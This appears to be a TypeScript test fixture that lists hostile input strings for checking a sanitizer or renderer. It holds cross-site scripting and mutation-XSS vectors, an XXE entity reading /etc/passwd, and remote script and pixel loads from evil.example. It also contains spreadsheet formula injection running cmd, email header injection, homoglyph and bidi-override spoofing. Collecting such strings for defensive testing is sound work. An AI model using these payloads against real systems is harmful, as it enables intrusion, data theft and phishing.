/** Hostile texts by kind. Every script among them calls `__pwned`; every address leads to `evil.example`. */
export const PAYLOADS = {
  scriptTag: [
    '<script>__pwned(1)</script>',
    '</script><script>__pwned(2)</script>',
    '<ScRiPt/src=//evil.example/x.js></sCrIpT>',
    '<script src="https://evil.example/x.js"></script>',
    '</title></style></textarea></noscript></template><script>__pwned(3)</script>',
  ],
  eventHandler: [
    '<img src=x onerror=__pwned(4)>',
    '<img/src/onerror=__pwned(5)//',
    '<body onload=__pwned(6)>',
    '<details open ontoggle=__pwned(7)>x</details>',
    '<input autofocus onfocus=__pwned(8)>',
    '<video><source onerror=__pwned(9)></video>',
    '<p style="animation:x" onanimationstart=__pwned(10)>x</p>',
  ],
  attributeBreakout: [
    '" onmouseover="__pwned(11)" x="',
    "' autofocus onfocus='__pwned(12)' x='",
    '"><script>__pwned(13)</script>',
    "'><img src=x onerror=__pwned(14)>",
    '`onerror=__pwned(15)`',
  ],
  comment: [
    '<!--',
    '--><script>__pwned(16)</script>',
    '--!><img src=x onerror=__pwned(17)>',
    ']]><script>__pwned(18)</script>',
    '<!--<img src="--><img src=x onerror=__pwned(19)>">',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  ],
  address: [
    '<a href="javascript:__pwned(20)">x</a>',
    '<a href="java&#x0A;script:__pwned(21)">x</a>',
    '<a href="&#1;javascript:__pwned(22)">x</a>',
    '<a href="JaVaScRiPt&colon;__pwned(23)">x</a>',
    '<a href="data:text/html,<script>__pwned(24)</script>">x</a>',
    '[x](javascript:__pwned(25))',
    '[x](<java\tscript:__pwned(26)>)',
    '![x](https://evil.example/pixel.gif)',
    '<form action="javascript:__pwned(27)"><button>x</button></form>',
    '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<iframe srcdoc="<script>parent.__pwned(28)</script>"></iframe>',
  ],
  svgAndMath: [
    '<svg onload=__pwned(29)>',
    '<svg><script>__pwned(30)</script></svg>',
    '<svg><animate xlink:href=#x attributeName=href values=javascript:__pwned(31) /><a id=x>x</a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwned(32)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=__pwned(33)>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=__pwned(34) src>">',
    '<noscript><p title="</noscript><img src=x onerror=__pwned(35)>">',
    '<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=__pwned(36)>',
    '<table><td><svg><foreignObject><p/><style><!--</style><a title="--><img src=x onerror=__pwned(37)>">',
    '<select><template><style><!--</style><a rel="--></style></template></select><img onerror=__pwned(38) src>">',
  ],
  style: [
    '<style>*{display:none;background:url(https://evil.example/x)}</style>',
    '<p style="position:fixed;inset:0;background:url(https://evil.example/y)">x</p>',
    '</style><script>__pwned(39)</script>',
    '}body{display:none}',
  ],
  template: [
    '{{constructor.constructor("__pwned(40)")()}}',
    '{__pwned(41)} ${__pwned(42)}',
    '<%= __pwned(43) %><%__pwned(44)%>',
    "{count, plural, other {<script>__pwned(45)</script>}} '{' #",
    '$& $` $1 $<name> \\u003cscript\\u003e',
  ],
  formula: [
    "=cmd|'/C calc'!A0",
    '+HYPERLINK("https://evil.example","x")',
    '-2+3+cmd|x',
    '@SUM(1+1)*cmd|x',
    '＝cmd|x',
    ';=1+1',
  ],
  lines: [
    'a%0D%0ABcc: victim@evil.example',
    'line one\nline two\n\nBcc: x@evil.example',
    'next\u2028line\u2029end\u0085.',
  ],
  letters: [
    'Pr\u0430vd\u0430 P\u0430yPal',
    'zero\u200Bwi\u2060dth\uFEFF',
    `za${'\u0334\u0352\u0489\u035C'.repeat(30)}lgo`,
    'x'.repeat(10_000),
    '👩‍👩‍👧‍👦🏳️‍🌈👍🏿🇩🇪'.repeat(20),
    'مرحبا Hello \u2066שלום\u2069 world',
    '\u{10FFFD}\u{1F600}\uFFFD',
    '&lt;script&gt;__pwned(46)&lt;/script&gt; &amp; &#60;b&#62;',
  ],
} as const satisfies Record<string, readonly string[]>;

/** A kind of hostile text. */
export type PayloadKind = keyof typeof PAYLOADS;

/** Direction controls that are never closed. Frontmatter refuses them; a checked text may hold them. */
export const DIRECTION_PAYLOADS = [
  '\u202Egnp.exe',
  '\u202Dleft',
  '\u202Aa\u202Bb',
  '\u2067rtl \u2068first',
  'pop\u202C\u2069',
] as const;
